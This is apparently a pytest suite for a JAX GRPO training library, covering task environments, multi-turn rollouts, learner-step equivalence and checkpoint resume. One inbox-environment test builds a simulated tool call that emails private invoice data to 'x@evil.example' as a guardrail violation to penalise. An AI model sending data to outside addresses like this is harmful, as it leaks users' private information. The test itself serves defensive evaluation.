"""GRPO around the learner: environments, the in-process producer (multi-turn rollouts), TrainingClient, and the
`nemo-jax grpo` run end to end (reward rises on a bandit-style task; a SIGKILLed run resumes)."""

import json
import re
import os
import signal
import subprocess
import sys
import textwrap
import time

import jax
import jax.numpy as jnp
import numpy as np
import pytest

from nemo_jax.config.train import OptimSection, PolicyLossConfig
from nemo_jax.data.chat import ChatTokenizer
from nemo_jax.lora import LoraConfig, attach
from nemo_jax.model import Options, init
from nemo_jax.rl.client import TrainingClient
from nemo_jax.rl.envs import Arithmetic, Constraints, JsonlTasks, Observation, Score, Task, make_env
from nemo_jax.rl.learner import make_learner_step, token_logprobs
from nemo_jax.rl.transport.producer import sample_rollouts, sample_rollouts_plain
from nemo_jax.rl.rollout import info_means, learner_batch, turn_spans

from helpers import FAST_COMPILE, micro_model, tiny_cfg

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


# ----------------------------------------------------------------------------- environments
def test_arithmetic_and_constraints_score():
    env = Arithmetic(ops=("plus", "times"), lo=0, hi=9, n_train=20, n_eval=10, seed=1)
    train, ev = env.tasks("train"), env.tasks("eval")
    assert len(train) == 20 and len(ev) == 10 and not {t.id for t in train} & {t.id for t in ev}
    t = train[0]
    ans = t.data["answer"]
    say = lambda s: list(t.messages) + [{"role": "assistant", "content": s}]  # noqa: E731
    assert env.score(t, say(f"It is {ans}.")) == Score(1.0, True)
    assert env.score(t, say(f"{ans + 1}")).reward == 0.0 and env.score(t, say("no idea")).reward == 0.0
    assert t.family in ("plus", "times")
    c = Constraints(k=3, n_train=5, n_eval=2, seed=0)
    task = c.tasks("train")[0]
    s = c.score(task, [{"role": "assistant", "content": "x"}])
    assert 0.0 <= s.reward <= 1.0 and len(task.data["checks"]) == 3
    # a text that meets every rule of a hand-made task
    hand = Task("h", (), {"checks": [("max_words", 6), ("include", "blue"), ("end_with", "."), ("no_digits", None),
                                     ("lowercase", None)]})
    assert c.score(hand, [{"role": "assistant", "content": "the sea is blue."}]) == Score(1.0, True)
    assert c.score(hand, [{"role": "assistant", "content": "The Sea is blue 2day"}]).reward == pytest.approx(2 / 5)


def test_jsonl_tasks_and_user_classes(tmp_path):
    p = tmp_path / "tasks.jsonl"
    rows = [{"id": "a", "prompt": "2+2?", "answer": "4", "verifier": "numeric"},
            {"id": "b", "prompt": "name?", "answer": "^bob$", "verifier": "regex", "split": "eval"},
            {"id": "c", "messages": [{"role": "user", "content": "pi?"}], "answer": 3.14, "verifier": "numeric",
             "tolerance": 0.01, "family": "math"}]
    p.write_text("\ufeff" + "\n".join(json.dumps(r) for r in rows) + "\n", encoding="utf-8")  # (a BOM: read)
    env = make_env(f"jsonl:{p}")
    tr = {t.id: t for t in env.tasks("train")}
    say = lambda s: [{"role": "assistant", "content": s}]  # noqa: E731
    assert env.score(tr["a"], say("the answer is 4")).success
    assert env.score(tr["c"], say("3.141")).success and not env.score(tr["c"], say("3.2")).success
    assert env.score(env.tasks("eval")[0], say("bob")).success and tr["c"].family == "math"
    bad = tmp_path / "bad.jsonl"
    bad.write_text(json.dumps({"prompt": "x", "answer": "(", "verifier": "regex"}) + "\n")
    with pytest.raises(ValueError, match=r"bad.jsonl:1: answer is not a valid regex"):
        JsonlTasks(str(bad))
    bad.write_text("\n" + json.dumps({"prompt": "x"}) + "\n")
    with pytest.raises(ValueError, match=r"bad.jsonl:2: a task needs 'answer'"):
        JsonlTasks(str(bad))
    bad.write_text('[1, 2]\n')
    with pytest.raises(ValueError, match=r"bad.jsonl:1: a line must be a JSON object"):
        JsonlTasks(str(bad))
    # NeMo-Gym rows go through the same reader (a BOM is not data; a line that is not JSON names its line)
    from nemo_jax.rl.envs.nemo_gym import load_rows

    gym = tmp_path / "gym.jsonl"
    gym.write_text("\ufeff" + json.dumps({"responses_create_params": {"input": "hi"}}) + "\n", encoding="utf-8")
    assert [t.messages[-1]["content"] for t in load_rows(str(gym), "train")] == ["hi"]
    gym.write_text(json.dumps({"responses_create_params": {"input": "hi"}}) + "\n{oops\n")
    with pytest.raises(ValueError, match=r"gym.jsonl:2: invalid JSON"):
        load_rows(str(gym), "train")
    with pytest.raises(ValueError, match=r"nemo_gym env: train rows .*missing.jsonl: No such file"):
        load_rows(str(tmp_path / "missing.jsonl"), "train")
    env = make_env("nemo_jax.rl.envs:Arithmetic", lo=0, hi=5, n_train=4, n_eval=2)
    assert len(env.tasks("train")) == 4
    with pytest.raises(ValueError, match="cannot import"):
        make_env("no_such_module:Env")


# ----------------------------------------------------------------------------- producer and client
CFG = tiny_cfg("M*E", vocab_size=512)
LCFG = LoraConfig(targets=("all",), rank=4, alpha=8.0)


@pytest.fixture(scope="module")
def tok():
    return ChatTokenizer.load("builtin:tiny")


@pytest.fixture(scope="module")
def base():
    return init(CFG, jax.random.key(0))


class TwoTurns:
    """A multi-turn environment: after the first answer the user asks again; reward on the second answer."""
    name, max_turns = "two-turns", 3

    def tasks(self, split):
        return [Task("t0", ({"role": "user", "content": "What is 1 plus 1?"},))]

    def respond(self, task, history):
        n = sum(m["role"] == "assistant" for m in history)
        return [{"role": "user", "content": "Again?"}] if n == 1 else None

    def score(self, task, history):
        return Score(float(len(history)), False)


@pytest.mark.slow
def test_multi_turn_rollouts_are_the_rendered_conversation(tok, base):
    client = TrainingClient(CFG, base, LCFG)
    env = TwoTurns()
    engine = client.engine(batch=2, max_len=128)
    engine.set_adapters(client.adapters, 3)
    rs = sample_rollouts(engine, tok, CFG, env, [(env.tasks("train")[0], "g")], 2, 6, 1.0)
    assert len(rs) == 2 and all(r.policy_versions == [3] and r.group_id == "g" for r in rs)
    for r in rs:
        m = np.asarray(r.loss_mask, bool)
        assert len(r.tokens) == len(m) == len(r.logprobs) and m.sum() > 0
        assert all(lp <= 0 for lp, k in zip(r.logprobs, m) if k) and all(lp == 0 for lp, k in zip(r.logprobs, m) if not k)
        text = tok.tokenizer.decode(r.tokens, skip_special_tokens=False)
        assert text.startswith(tok.render(list(env.tasks("train")[0].messages), add_generation_prompt=True))
        if r.reward == 4.0:  # both turns: the user's follow-up sits between them, unmasked, as the template renders it
            assert "<|im_start|>user\nAgain?<|im_end|>\n<|im_start|>assistant\n" in text
            assert (np.diff(m.astype(int)) == 1).sum() == 2
    # the behaviour logprobs are the learner's logprobs of the same tokens under the same adapters
    rs[0].reward, rs[1].reward = 0.0, 1.0  # (a group with signal: learner_batch keeps it)
    batch, _ = learner_batch([rs], seq_len=max(len(r.tokens) for r in rs))
    lp = client.compute_logprobs(batch)
    np.testing.assert_allclose(lp[batch["loss_mask"]], batch["behaviour_logprobs"][batch["loss_mask"]], atol=2e-4)


@pytest.mark.slow
def test_client_primitives_match_the_fused_learner_step(base, tmp_path):
    from test_rl import _rl_batch

    batch = _rl_batch(CFG, rows=8, T=12)
    o = OptimSection(lr=1e-2, warmup_steps=0, decay="constant", weight_decay=0.0)
    client = TrainingClient(CFG, base, LCFG, optim=o, seed=3)
    # two forward_backward calls on halves (weights over the whole batch) == one fused step on the whole
    halves = [{k: v[s] for k, v in batch.items()} for s in (slice(0, 4), slice(4, 8))]
    for h in halves:
        client.forward_backward(h)
    m = client.optim_step()
    assert client.version == 1 and m["finite"]
    with pytest.raises(RuntimeError, match="no gradients pending"):
        client.optim_step()
    ref = TrainingClient(CFG, base, LCFG, optim=o, seed=3)
    step = jax.jit(make_learner_step(CFG, Options(), ref.tx, ref.sched, PolicyLossConfig(),
                                     combine=lambda ad, b: attach(b, ad)))
    st, mref = step(ref.state, {k: jnp.asarray(v) for k, v in batch.items()}, base)
    np.testing.assert_allclose(m["loss"], float(mref["loss"]), rtol=1e-5)
    for a, b in zip(jax.tree.leaves(client.adapters), jax.tree.leaves(st.params)):
        np.testing.assert_allclose(a, b, rtol=1e-4, atol=1e-6)
    # on 8 devices (adapters, optimiser state and batch sharded): the same update
    from nemo_jax.parallel.mesh import make_mesh
    from nemo_jax.parallel.rules import Rules, param_shardings
    from nemo_jax.model.spec import param_specs

    mesh = make_mesh({"data": 2, "fsdp": 4})
    sharded = TrainingClient(CFG, jax.device_put(base, param_shardings(param_specs(CFG), mesh, Rules())), LCFG, mesh,
                             optim=o, seed=3)
    sharded.forward_backward(batch)
    ms = sharded.optim_step()
    np.testing.assert_allclose(ms["loss"], m["loss"], rtol=1e-5)
    for a, b in zip(jax.tree.leaves(sharded.adapters), jax.tree.leaves(client.adapters)):
        np.testing.assert_allclose(a, b, rtol=1e-4, atol=1e-6)
    # cross_entropy kind through the same entry point: the negative mean logprob of the weighted tokens
    ce = client.forward_backward(batch, loss="cross_entropy")
    lp = client.compute_logprobs(batch)
    np.testing.assert_allclose(ce["loss"], -np.sum(lp * batch["loss_weights"]), rtol=1e-5)
    # the LoRA scale is a constant: after AdamW steps at lr 1e-2 it is alpha / r exactly, the optimiser state has
    # no leaf for it, and the published adapters say lora_alpha = the configured alpha (no alpha_pattern)
    from nemo_jax.model.spec import flatten_with_paths

    client.optim_step()
    scales = {k: np.asarray(v) for k, v in flatten_with_paths(client.adapters).items() if k.endswith("lora_scale")}
    assert scales and all(np.all(v == np.float32(LCFG.scale)) for v in scales.values())
    assert not [k for k in flatten_with_paths(client.state.opt_state) if "lora_scale" in k]
    client.publish(str(tmp_path / "pub"), wait=True)  # (written by a background thread: wait for it)
    conf = json.loads((tmp_path / "pub" / "policy" / "2" / "adapter_config.json").read_text())
    assert conf["lora_alpha"] == LCFG.alpha and not conf["alpha_pattern"]
    # save / load: adapters, optimiser state, version and the caller's state come back
    client.save_state(str(tmp_path / "ck"), 7, {"mine": [1, 2]})
    other = TrainingClient(CFG, base, LCFG, optim=o, seed=99)
    step_no, extra = other.load_state(str(tmp_path / "ck"))
    assert step_no == 7 and extra == {"mine": [1, 2]} and other.version == 2
    for a, b in zip(jax.tree.leaves(other.state), jax.tree.leaves(client.state)):
        np.testing.assert_array_equal(a, b)
    # a damaged newest checkpoint: the restart falls back to the previous one and saves that step again (it
    # raised `Checkpoint for step 8 already exists` when the damaged step stayed in place)
    client.save_state(str(tmp_path / "ck"), 8, {"mine": [3]})
    with open(tmp_path / "ck" / "8" / "data" / "metadata", "r+b") as f:
        f.write(b"\x00")
    again = TrainingClient(CFG, base, LCFG, optim=o, seed=99)
    assert again.load_state(str(tmp_path / "ck"))[0] == 7 and (tmp_path / "ck" / "8.damaged").is_dir()
    again.save_state(str(tmp_path / "ck"), 8, {"mine": [3]})
    assert (tmp_path / "ck" / "8" / "nemo_jax-manifest.json").exists()
    again.close()
    client.close()


# ----------------------------------------------------------------------------- the run, end to end
BANDIT = textwrap.dedent('''
    """A bandit: any prompt; reward = share of the answer's characters that are digits."""
    from nemo_jax.rl.envs import Score, SingleTurn, Task

    class Digits(SingleTurn):
        name = "digits"

        def tasks(self, split):
            return [Task(f"t{i}", ({"role": "user", "content": f"Say something {i}."},)) for i in range(8)]

        def score(self, task, history):
            text = history[-1]["content"].replace(" ", "")
            share = sum(ch.isdigit() for ch in text) / max(len(text), 1)
            return Score(share, share == 1.0)


    class SlowDigits(Digits):
        """The bandit behind a network: each episode's start() answers after 0-50 ms (unseeded: as a VM or an
        HTTP service does), so episodes reach the sampler in another order every run."""

        def episode(self):
            import random
            import time

            ep = super().episode()
            start = ep.start

            def slow_start(task, rollout_id):
                time.sleep(random.SystemRandom().random() * 0.05)
                return start(task, rollout_id)
            ep.start = slow_start
            return ep
''')


def _grpo_cmd(run_dir, steps):
    """The bandit on a random tiny model cut to attention + MLP (the adapters are on lm_head alone)."""
    model = micro_model(os.path.dirname(run_dir))
    return [sys.executable, "-m", "nemo_jax.cli", "grpo", "--config", os.path.join(ROOT, "configs/grpo/tiny-cpu.yaml"),
            f"run_dir={run_dir}", f"steps={steps}", "model.init=random", "model.init_sft_config=null", "lora.init=null",
            f"model.config={model}",
            "rollout.env=bandit_env:Digits", "rollout.env_args={}", "rollout.group_size=6",
            "rollout.groups_per_step=4", "rollout.max_new_tokens=6", "rollout.seq_len=32", "optim.lr=0.03",
            "lora.targets=[lm_head]", "checkpoint.every=3", "logging.tensorboard=false", "eval_every=0"]


@pytest.mark.slow
def test_two_inline_runs_with_the_same_seed_are_equal(tmp_path):
    """`rollout.producer: inline`, the same config and seed, more groups in flight than a step takes: two runs
    log the same rollouts' figures and the same losses at every step (each rollout's draws from (seed, its id);
    every in-flight group finished before a step, so none is part-sampled when the policy changes; groups taken
    oldest first, rollouts in id order)."""
    (tmp_path / "bandit_env.py").write_text(BANDIT)
    env = dict(os.environ, PYTHONPATH=f"{tmp_path}{os.pathsep}{ROOT}", XLA_FLAGS=FAST_COMPILE, JAX_PLATFORMS="cpu")
    recs = []
    for name in ("a", "b"):
        cmd = _grpo_cmd(tmp_path / name, 2) + ["rollout.producer=inline", "rollout.in_flight_groups=6",
                                              "checkpoint.every=0", "seed=5", "rollout.env=bandit_env:SlowDigits"]
        out = subprocess.run(cmd, env=env, cwd=tmp_path, capture_output=True, text=True, timeout=1800)
        assert out.returncode == 0, out.stdout[-3000:] + out.stderr[-3000:]
        recs.append([json.loads(x) for x in open(tmp_path / name / "metrics.jsonl")])
    timing = ("_s", "_frac", "tokens_per_sec", "time")
    same = lambda r: {k: v for k, v in r.items() if not any(t in k for t in timing)}  # noqa: E731
    assert len(recs[0]) == len(recs[1]) and [r["step"] for r in recs[0] if "reward_mean" in r] == [1, 2]
    for a, b in zip(*recs):  # counts and rewards exactly; losses to float rounding (a behaviour logprob can differ
        a, b = same(a), same(b)  # in its last bits with the rows it was prefilled beside)
        assert a.keys() == b.keys()
        for k in a:
            assert a[k] == (pytest.approx(b[k], rel=1e-5, abs=1e-8) if isinstance(b[k], float) else b[k]), (k, a, b)


@pytest.mark.slow
def test_grpo_reward_rises_and_a_killed_run_resumes(tmp_path):
    (tmp_path / "bandit_env.py").write_text(BANDIT)
    env = dict(os.environ, PYTHONPATH=f"{tmp_path}{os.pathsep}{ROOT}", XLA_FLAGS=FAST_COMPILE, JAX_PLATFORMS="cpu")
    run = tmp_path / "run"
    steps = 15  # a multiple of checkpoint.every: the last periodic checkpoint is also the final one
    p = subprocess.Popen(_grpo_cmd(run, steps), env=env, cwd=tmp_path, stdout=subprocess.PIPE,
                         stderr=subprocess.STDOUT, start_new_session=True)
    try:  # kill -9 once a checkpoint past step 6 exists
        deadline = time.time() + 600
        ck = run / "checkpoints"
        while time.time() < deadline and p.poll() is None:
            if ck.is_dir() and any(d.isdigit() and int(d) >= 6 for d in os.listdir(ck)):
                break
            time.sleep(0.2)
        assert p.poll() is None, p.stdout.read().decode()[-3000:]
        os.killpg(p.pid, signal.SIGKILL)
        p.wait()
    finally:
        if p.poll() is None:
            os.killpg(p.pid, signal.SIGKILL)
    saved = max(int(d) for d in os.listdir(run / "checkpoints") if d.isdigit())
    n_first = len(open(run / "metrics.jsonl").readlines())
    out = subprocess.run(_grpo_cmd(run, steps), env=env, cwd=tmp_path, capture_output=True, text=True, timeout=900)
    assert out.returncode == 0, out.stdout[-3000:] + out.stderr[-3000:]
    assert f"resumed at step {saved}" in out.stdout
    recs = [json.loads(line) for line in open(run / "metrics.jsonl")]
    after = [r["step"] for r in recs[n_first:] if "reward_mean" in r]
    assert after == list(range(saved + 1, steps + 1))  # continues where the checkpoint left off
    last = {r["step"]: r for r in recs}
    assert last[steps]["policy_version"] > last[saved]["policy_version"] >= saved - 1  # continued, not reset
    rewards = [last[s]["reward_mean"] for s in range(1, steps + 1)]
    q = steps // 4
    assert np.mean(rewards[-q:]) >= np.mean(rewards[:q]) + 0.1, rewards
    # policies are named by version (optimiser steps): a last step with no signal left (every group solved) takes
    # no update, so the last version may trail the step count
    assert os.path.isdir(run / "adapters") and os.path.isdir(run / "policy" / str(last[steps]["policy_version"]))


def test_shipped_grpo_configs_load():
    from nemo_jax.rl.grpo import load_grpo_config

    for name in sorted(os.listdir(os.path.join(ROOT, "configs/grpo"))):
        c = load_grpo_config(os.path.join(ROOT, "configs/grpo", name))
        assert c.name and c.lora.targets and c.rollout.group_size >= 2, name
    with pytest.raises(ValueError, match="rollout.producer: none needs rollout.spool"):
        load_grpo_config(os.path.join(ROOT, "configs/grpo/tiny-cpu.yaml"), ["rollout.producer=none"])


def test_inbox_tools_checks_and_guardrails():
    from nemo_jax.rl.envs import Inbox

    env = make_env("inbox", n_train=30, n_eval=3, seed=2)
    assert isinstance(env, Inbox) and env.max_turns > 1
    tasks = env.tasks("train")
    kinds = {t.family for t in tasks}
    assert kinds == {"inbox-meeting", "inbox-invoice", "inbox-relay"}
    call = lambda name, **a: f'<tool_call>{json.dumps({"name": name, "arguments": a})}</tool_call>'  # noqa: E731
    for t in tasks[:9]:
        h = list(t.messages) + [{"role": "assistant", "content": "Let me look. " + call("read_email", id="e1")
                                 + call("read_email", id="e2")}]
        res = env.respond(t, h)  # the looked-up emails come back as tool messages
        assert [m["role"] for m in res] == ["tool", "tool"] and "e1" in res[0]["content"]
        e1, e2 = (json.loads(m["content"])["result"] for m in res)
        day, hour = re.search(r"on (\S+) at (\d\d:\d\d)", e1["body"]).groups()
        amount = re.search(r"pay (\S+) USD", e2["body"]).group(1)
        checks = dict(t.data["checks"])
        if t.family == "inbox-meeting":
            act = call("create_event", title="meeting", date=day, time=hour, attendees=[e1["from"]])
        elif t.family == "inbox-invoice":
            act = call("send_email", to=checks["email_to"], subject="invoice", body=f"It is {amount} USD.")
        else:
            act = call("post_chat", channel="#general", text=f"The invoice is {amount} USD.")
        h = h + res + [{"role": "assistant", "content": act}]
        assert env.respond(t, h)[0]["content"].endswith('"result": {"ok": true}}')
        done = h + env.respond(t, h) + [{"role": "assistant", "content": "Done."}]
        assert env.respond(t, done) is None and env.score(t, done) == Score(1.0, True), t.family
        # partial credit: the right kind of action with a wrong detail; and a guardrail violation
        wrong = act.replace(day, "2026-01-01").replace(amount, "0.00")
        s = env.score(t, h[:-1] + [{"role": "assistant", "content": wrong}])
        assert 0.0 < s.reward < 1.0 and not s.success
        leak = h + [{"role": "assistant", "content": call("send_email", to="x@evil.example", body=amount)}]
        assert env.score(t, leak).reward == 0.5 and not env.score(t, leak).success
    assert env.score(tasks[0], list(tasks[0].messages) + [{"role": "assistant", "content": "<tool_call>{oops"
                                                                                          "}</tool_call>"}]).reward == 0


@pytest.mark.slow
def test_streamed_rollouts_equal_the_turn_by_turn_sampler(tok, base, monkeypatch):
    """The engine-driven episodes (2 decode rows for 4 two-turn rollouts, conversations parked and continued in
    their rows) give, greedy, the rollouts the plain turn-by-turn sampler gives."""
    import nemo_jax.rl.transport.producer as producer

    client = TrainingClient(CFG, base, LCFG)
    env = TwoTurns()
    tasks = [(env.tasks("train")[0], "g0"), (env.tasks("train")[0], "g1")]
    sample = lambda p, sp, k, images: client.sample(p, sp, k)  # noqa: E731
    first = sample_rollouts_plain(sample, tok, CFG, env, tasks[:1], 1, 6, 0.0, jax.random.key(0))[0]
    # a token greedy decoding emits early stands for the end of turn, so the user's follow-up turn happens
    monkeypatch.setattr(producer, "stop_ids", lambda cfg, tok: (first.tokens[first.loss_mask.index(1) + 2],))
    plain = sample_rollouts_plain(sample, tok, CFG, env, tasks, 2, 6, 0.0, jax.random.key(0), version=1)
    engine = client.engine(batch=2, max_len=256)
    engine.set_adapters(client.adapters, 1)
    streamed = sample_rollouts(engine, tok, CFG, env, tasks, 2, 6, 0.0)
    assert len(plain) == len(streamed) == 4 and {r.reward for r in plain} == {4.0}  # two turns each
    for a, b in zip(plain, streamed):
        assert (a.tokens, a.loss_mask, a.reward, a.group_id, a.policy_versions) == (
            b.tokens, b.loss_mask, b.reward, b.group_id, b.policy_versions)
        np.testing.assert_allclose(a.logprobs, b.logprobs, atol=1e-4)


@pytest.mark.slow
def test_seeded_rollouts_do_not_depend_on_rows_or_finishing_order(tok, base):
    """`sample_rollouts(seed=...)` (what `nemo-jax eval --seed` uses): each rollout's draws come from (seed, its
    id), so two engines with other row counts, given the tasks in another order, sample the same tokens at
    temperature 1; another seed samples others."""
    client = TrainingClient(CFG, base, LCFG)
    env = Arithmetic(n_train=6, n_eval=2, seed=3)
    tasks = [(t, f"g{i}") for i, t in enumerate(env.tasks("train"))]

    def run(rows, order, seed):
        engine = client.engine(batch=rows, max_len=128)
        engine.set_adapters(client.adapters, 0)
        rs = sample_rollouts(engine, tok, CFG, env, order, 2, 6, 1.0, seed=seed)
        return {r.rollout_id: r.tokens for r in rs}

    a, b = run(2, tasks, 5), run(5, tasks[::-1], 5)
    assert a == b and len(a) == 12
    assert run(2, tasks, 6) != a


class Gated:
    """Episodes on the TwoTurns prompt with async steps: a "slow" task's first step waits for `gate`, a "hang"
    task's never returns; every step asks once more, then ends. Closes are recorded."""
    name, max_turns = "gated", 3

    def __init__(self):
        import threading

        self.gate, self.closed = threading.Event(), []

    def tasks(self, split):
        return [Task(k, ({"role": "user", "content": "What is 1 plus 1?"},)) for k in ("slow", "hang", "fast")]

    def episode(self):
        env = self

        class Ep:
            def start(self, task, rollout_id):
                self.task, self.id, self.n = task, rollout_id, 0
                return Observation(list(task.messages))

            async def step(self, message):
                import asyncio

                self.n += 1
                if self.task.id == "hang":
                    await asyncio.sleep(3600)
                while self.task.id == "slow" and self.n == 1 and not env.gate.is_set():
                    await asyncio.sleep(0.01)
                return Observation([{"role": "user", "content": "Again?"}] if self.n == 1 else [], float(self.n),
                                   self.n == 2, self.n == 2)

            def close(self):
                env.closed.append(self.id)

        return Ep()


def test_a_waiting_episode_never_stalls_the_other_rows(tok, base, monkeypatch):
    """While one episode's environment call waits (async), the engine keeps decoding: the other rollouts run
    through the second row, two turns each, and reach the driver one by one; adapters swapped in meanwhile
    sample the waiting rollout's next turn, so it spans two policy versions (staleness from the oldest). An
    episode past its time limit is scored 0, closed and counted; every episode is closed."""
    import nemo_jax.rl.transport.producer as producer
    from nemo_jax.rl.transport.producer import EpisodeDriver, sampling_params

    client = TrainingClient(CFG, base, LCFG)
    env = Gated()
    sample = lambda p, sp, k, images: client.sample(p, sp, k)  # noqa: E731
    first = sample_rollouts_plain(sample, tok, CFG, TwoTurns(), [(TwoTurns().tasks("train")[0], "g")], 1, 6, 0.0,
                                  jax.random.key(0))[0]
    monkeypatch.setattr(producer, "stop_ids", lambda cfg, tok: (first.tokens[first.loss_mask.index(1) + 2],))
    engine = client.engine(batch=2, max_len=256)
    sp = sampling_params(CFG, tok, 6, 0.0)
    d = EpisodeDriver(engine, tok, CFG, env, sp)
    slow, _, fast = env.tasks("train")
    d.add(slow, "g0", "slow")
    for i in range(3):
        d.add(fast, "g1", f"fast{i}")
    done = []
    t0 = time.monotonic()
    while len(done) < 3 and time.monotonic() - t0 < 120:
        got = d.pump()
        assert len(got) <= 2  # (rollouts come out as they finish, not as a batch)
        done += got
    steps = engine.decode_steps
    assert sorted(r.rollout_id for r in done) == ["fast0", "fast1", "fast2"] and d.running == 1
    assert all(r.reward == 2.0 and r.success and r.policy_versions == [0] for r in done)
    # every token the fast rollouts sampled (3 rollouts x 2 turns, one row between them) but the first of each turn
    # (which its prefill may draw) took a decode step while "slow" waited parked in the other row (a turn's length
    # is not fixed: greedy picks can differ in the last bits with what else the batch holds)
    turns = sum(len(turn_spans(r.loss_mask)) for r in done)
    assert turns == 3 * 2 and steps >= sum(sum(r.loss_mask) for r in done) - turns and engine.parked == 1
    engine.set_adapters(jax.tree.map(lambda x: x * 1.0, client.adapters), 5)
    env.gate.set()
    while d.running and time.monotonic() - t0 < 120:
        done += d.pump()
    late = done[-1]
    assert late.rollout_id == "slow" and late.policy_versions == [0, 5] and late.version == 0 and late.success
    # a time limit: the hanging episode is scored 0, closed, counted
    d2 = EpisodeDriver(engine, tok, CFG, env, sp, timeout_s=0.5)
    d2.add(env.tasks("train")[1], "g2", "hang")
    out = []
    while not out and time.monotonic() - t0 < 120:
        out = d2.pump()
    assert out[0].timed_out and out[0].reward == 0.0 and not out[0].success and d2.counts["timed_out"] == 1
    d.close()
    d2.close()
    assert sorted(env.closed) == ["fast0", "fast1", "fast2", "hang", "slow"]


class Branching:
    """Episodes that branch: after the first answer the conversation starts over (a new system prompt with a
    summary, a user turn: a compacted history, `restart`), the second answer ends it. With `grouped`, the
    environment scores a group together (`score_group`): each episode's reward is its rank by the length of its
    last answer."""
    name, max_turns = "branching", 3

    def __init__(self, grouped: bool = False):
        import threading

        self.closed, self.scored = [], []
        self.stalled, self.go = set(), threading.Event()  # episodes whose steps wait for `go`
        if grouped:
            self.score_group = self._score_group

    def tasks(self, split):
        return [Task("t0", ({"role": "user", "content": "What is 1 plus 1?"},))]

    def episode(self):
        env = self

        class Ep:
            def start(self, task, rollout_id):
                self.id, self.n, self.last = rollout_id, 0, ""
                return Observation(list(task.messages))

            def step(self, message):
                if self.id in env.stalled:
                    env.go.wait(60)
                self.n, self.last = self.n + 1, message["content"]
                if self.n == 1:
                    return Observation(BRANCH(message["content"]), 0.5, restart=True)
                return Observation([], 1.0, True, True)

            def close(self):
                env.closed.append(self.id)

        return Ep()

    def _score_group(self, episodes):
        assert not {e.id for e in episodes} & set(self.closed)  # (scored before they are closed)
        self.scored.append(sorted(e.id for e in episodes))
        order = sorted(range(len(episodes)), key=lambda i: (len(episodes[i].last), episodes[i].id))
        out = [None] * len(episodes)
        for rank, i in enumerate(order):
            out[i] = Observation([], float(rank), True, rank == len(episodes) - 1, {"rank": rank})
        return out


def BRANCH(summary):
    return [{"role": "system", "content": f"Summary so far: {summary}"}, {"role": "user", "content": "Go on."}]


def _early_stop(tok, client, monkeypatch):
    """A token greedy decoding emits early stands for the end of turn, so follow-up turns happen."""
    import nemo_jax.rl.transport.producer as producer

    sample = lambda p, sp, k, images: client.sample(p, sp, k)  # noqa: E731
    first = sample_rollouts_plain(sample, tok, CFG, TwoTurns(), [(TwoTurns().tasks("train")[0], "g")], 1, 6, 0.0,
                                  jax.random.key(0))[0]
    monkeypatch.setattr(producer, "stop_ids", lambda cfg, tok: (first.tokens[first.loss_mask.index(1) + 2],))
    return sample


@pytest.mark.slow
def test_a_branching_episode_is_one_rollout_of_two_branches(tok, base, monkeypatch):
    """An episode that restarts its conversation: one rollout whose token record holds both branches, the second
    opening with its own prompt rendered as a new conversation; the engine-driven driver equals the plain
    turn-by-turn reference; the learner's row (two segments) recomputes the behaviour logprobs."""
    client = TrainingClient(CFG, base, LCFG)
    sample = _early_stop(tok, client, monkeypatch)
    env = Branching()
    tasks = [(env.tasks("train")[0], "g0")]
    plain = sample_rollouts_plain(sample, tok, CFG, env, tasks, 2, 6, 0.0, jax.random.key(0))
    engine = client.engine(batch=2, max_len=256)
    engine.set_adapters(client.adapters, 0)
    streamed = sample_rollouts(engine, tok, CFG, env, tasks, 2, 6, 0.0)
    for a, b in zip(plain, streamed):
        assert (a.tokens, a.loss_mask, a.branches, a.reward, a.turn_rewards) == (
            b.tokens, b.loss_mask, b.branches, b.reward, b.turn_rewards)
        np.testing.assert_allclose(a.logprobs, b.logprobs, atol=1e-4)
    r = streamed[0]
    (at,) = r.branches
    first_answer = tok.tokenizer.decode([t for t, m in zip(r.tokens[:at], r.loss_mask[:at]) if m],
                                        skip_special_tokens=True)
    prompt = tok.tokenizer.encode(tok.render(BRANCH(first_answer), add_generation_prompt=True),
                                  add_special_tokens=False).ids
    assert r.tokens[at:at + len(prompt)] == prompt and not any(r.loss_mask[at:at + len(prompt)])
    assert r.reward == 1.0 and r.turn_rewards == [0.5, 1.0] and r.messages[0] == BRANCH(first_answer)[0]
    batch, _ = learner_batch([streamed], 64, drop_zero_variance=False)
    assert set(batch["segment_ids"][0].tolist()) == {0, 1, 2}
    lp = jax.jit(lambda p, b: token_logprobs(p, b, CFG, Options()))(base, {k: jnp.asarray(v) for k, v in batch.items()})
    m = batch["loss_mask"]
    np.testing.assert_allclose(np.asarray(lp)[m], batch["behaviour_logprobs"][m], atol=1e-4)


def test_a_group_scored_environment_scores_each_group_together(tok, base, monkeypatch):
    """`score_group`: a group's finished episodes wait until none of the group runs, are scored together (before
    their close()), and come out with the group's rewards, success and info; each group once. A group abandoned
    while some of it waits is dropped whole, its episodes closed."""
    from nemo_jax.rl.transport.producer import EpisodeDriver, sampling_params

    client = TrainingClient(CFG, base, LCFG)
    _early_stop(tok, client, monkeypatch)
    env = Branching(grouped=True)
    engine = client.engine(batch=3, max_len=256)
    d = EpisodeDriver(engine, tok, CFG, env, sampling_params(CFG, tok, 6, 1.0))
    task = env.tasks("train")[0]
    for gid, n in (("g0", 3), ("g1", 2)):
        for j in range(n):
            d.add(task, gid, f"{gid}/{j}")
    out, t0 = [], time.monotonic()
    while d.running and time.monotonic() - t0 < 120:
        got = d.pump()
        assert all(len([x for x in got if x.group_id == g]) in (0, 3 if g == "g0" else 2)  # (a group comes out whole;
                   for g in ("g0", "g1"))                                                  # two may in one pump)
        out += got
    while d.closing and time.monotonic() - t0 < 120:  # (close() runs on the pool: the last ones may still run)
        assert d.pump() == []
    assert sorted(env.scored) == [["g0/0", "g0/1", "g0/2"], ["g1/0", "g1/1"]]
    for gid, n in (("g0", 3), ("g1", 2)):
        g = [x for x in out if x.group_id == gid]
        assert sorted(x.reward for x in g) == list(map(float, range(n)))
        assert [x.success for x in g].count(True) == 1 and [x.info for x in g] == [{"rank": x.reward} for x in g]
    assert sorted(env.closed) == sorted(x.rollout_id for x in out)
    assert info_means(out)["env/rank"] == np.mean([x.reward for x in out])  # (what a step logs of them)
    env.stalled.add("g2/1")  # (its steps wait: g2/0 ends and is held while g2/1 still runs)
    for j in range(2):
        d.add(task, "g2", f"g2/{j}")
    while not d.held.get("g2") and time.monotonic() - t0 < 120:
        assert d.pump() == []
    assert d.abandon("g2") == 1 and d.running == 0
    env.go.set()
    d.close()
    assert {"g2/0", "g2/1"} <= set(env.closed)


